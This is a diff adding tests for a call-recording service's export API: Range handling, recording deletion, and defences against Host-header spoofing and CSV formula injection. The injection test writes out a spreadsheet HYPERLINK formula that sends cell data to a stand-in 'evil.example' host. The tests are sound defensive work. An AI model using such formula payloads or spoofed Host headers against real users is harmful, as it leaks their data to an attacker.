@@ -62,6 +62,26 @@ describe('export and the signed recording link', () => {
     expect((await fetch(otherCall)).status).toBe(403)
   })
 
+  test('a Range of several ranges, another unit or spaces is ignored (200, whole file); one range still 206, past the end still 416', async () => {
+    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
+    const wav = readFileSync(`${t.dataDir}/recordings/${id}.wav`)
+    const link = (await t.api('GET', `/api/calls/${id}/export`)).body.recordingUrl as string
+    const viaKey = (range: string) => fetch(`${t.url}/api/calls/${id}/recording`, { headers: { authorization: `Bearer ${t.adminKey}`, range } })
+    for (const get of [(range: string) => fetch(link, { headers: { range } }), viaKey]) {
+      for (const range of ['bytes=0-1,5-6', 'items=0-1', 'bytes = 0-10', 'bytes=0 - 10']) {
+        const r = await get(range)
+        expect({ range, status: r.status }).toEqual({ range, status: 200 })
+        expect(Buffer.from(await r.arrayBuffer()).equals(wav)).toBe(true)
+      }
+      const one = await get('bytes=0-43')
+      expect(one.status).toBe(206)
+      expect(Buffer.from(await one.arrayBuffer()).equals(wav.subarray(0, 44))).toBe(true)
+      const beyond = await get(`bytes=${wav.length}-`)
+      expect(beyond.status).toBe(416)
+      expect(beyond.headers.get('content-range')).toBe(`bytes */${wav.length}`)
+    }
+  })
+
   test('an expired recording link is refused with 403', async () => {
     const ttl = await startTestAppliance({ RECORDING_URL_TTL_SEC: 1 })
     try {
@@ -75,6 +95,20 @@ describe('export and the signed recording link', () => {
     } finally {
       await ttl.stop()
     }
+  })
+
+  test('links are built from the configuration: a Host header of evil.example does not reach recordingUrl', async () => {
+    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
+    const headers = { authorization: `Bearer ${t.adminKey}`, host: 'evil.example' }
+    const call = (await (await fetch(`${t.url}/api/calls/${id}`, { headers })).json()) as any
+    const doc = (await (await fetch(`${t.url}/api/calls/${id}/export`, { headers })).json()) as any
+    const csv = await (await fetch(`${t.url}/api/calls/export?format=csv`, { headers })).text()
+    const ndjson = await (await fetch(`${t.url}/api/calls/export`, { headers })).text()
+    const base = t.url // http://PUBLIC_HOST:<the port HTTP listens on>
+    expect(call.call.recordingUrl).toBe(`${base}/api/calls/${id}/recording`)
+    expect(doc.recordingUrl).toStartWith(`${base}/recordings/${id}?`)
+    for (const text of [csv, ndjson, JSON.stringify(call), JSON.stringify(doc)]) expect(text).not.toContain('evil.example')
+    expect((await fetch(doc.recordingUrl)).status).toBe(200)
   })
 
   test('a live call cannot be exported or deleted (409)', async () => {
@@ -109,6 +143,24 @@ describe('delete', () => {
     expect((await t.api('GET', `/api/calls/${id}`)).status).toBe(404)
     expect((await t.api('GET', `/api/calls/${id}/export`)).status).toBe(404)
     expect((await t.api('DELETE', `/api/calls/${id}`)).status).toBe(404)
+  })
+
+  test('DELETE /api/calls/{id}?deleteRecording=true removes the recording file and the record; a bad value is refused and deletes nothing', async () => {
+    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
+    const file = `${t.dataDir}/recordings/${id}.wav`
+    const bad = await t.api('DELETE', `/api/calls/${id}?deleteRecording=yes`)
+    expect(bad.status).toBe(400)
+    expect(bad.body.error.code).toBe('validation_failed')
+    expect(existsSync(file)).toBe(true)
+    const res = await t.api('DELETE', `/api/calls/${id}?deleteRecording=true`)
+    expect(res.status).toBe(200)
+    expect(res.body).toEqual({ ok: true })
+    expect(existsSync(file)).toBe(false)
+    expect((await t.api('GET', `/api/calls/${id}`)).status).toBe(404)
+    // false is the default: the file stays
+    const kept = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
+    expect((await t.api('DELETE', `/api/calls/${kept}?deleteRecording=false`)).status).toBe(200)
+    expect(existsSync(`${t.dataDir}/recordings/${kept}.wav`)).toBe(true)
   })
 
   test('deleting the recording removes the file and the link; the record stays', async () => {
@@ -192,9 +244,27 @@ describe('listing and bulk export', () => {
     expect(docs[1].labels).toEqual(['vip'])
     const csv = await (await fetch(`${t.url}/api/calls/export?format=csv`, { headers: { authorization: `Bearer ${ws.apiKey.key}` } })).text()
     const lines = csv.trim().split('\r\n')
-    expect(lines[0]!.startsWith('id,agentId,agentName,type,from,to,outcome')).toBe(true)
+    expect(lines[0]!.startsWith('"id","agentId","agentName","type","from","to","outcome"')).toBe(true)
     expect(lines.length).toBe(4)
-    expect(lines[1]!.startsWith(`${c},agent_b,`)).toBe(true)
+    expect(lines[1]!.startsWith(`"${c}","agent_b",`)).toBe(true)
+  })
+
+  test("the CSV export neutralises a member's formula label and a formula agent name, so no spreadsheet runs them", async () => {
+    const ws = (await t.api('POST', '/api/workspaces', { body: { name: 'Formulas' } })).body
+    const admin = apiClient(t.url, ws.apiKey.key)
+    const agent = (await admin('POST', '/api/agents', { body: { name: '@SUM(1+1)' } })).body.agent
+    const id = await seedCall(db, { workspaceId: ws.workspace.id, agentId: agent.id, agentName: agent.name })
+    const inv = await admin('POST', `/api/workspaces/${ws.workspace.id}/members`, { body: { email: 'labeller@example.com' } })
+    const key = (await admin('POST', `/api/workspaces/${ws.workspace.id}/api-keys`, { body: { name: 'member', userId: inv.body.member.userId } })).body.apiKey.key
+    const probe = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    expect((await apiClient(t.url, key)('POST', `/api/calls/${id}/labels`, { body: { label: probe } })).status).toBe(200)
+    const csv = await (await fetch(`${t.url}/api/calls/export?format=csv`, { headers: { authorization: `Bearer ${key}` } })).text()
+    const row = csv.split('\r\n')[1]!
+    expect(row).toContain(`,"'@SUM(1+1)",`)
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)
+    // no cell of the row starts a formula: each begins with a quote, a digit or nothing
+    const cells = row.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((c) => c.replace(/,$/, ''))
+    for (const cell of cells) expect(/^"?[=+\-@\t\r]/.test(cell) && !/^-?\d/.test(cell)).toBe(false)
   })
 
   test('bulk export walks every call across many batches exactly once', async () => {
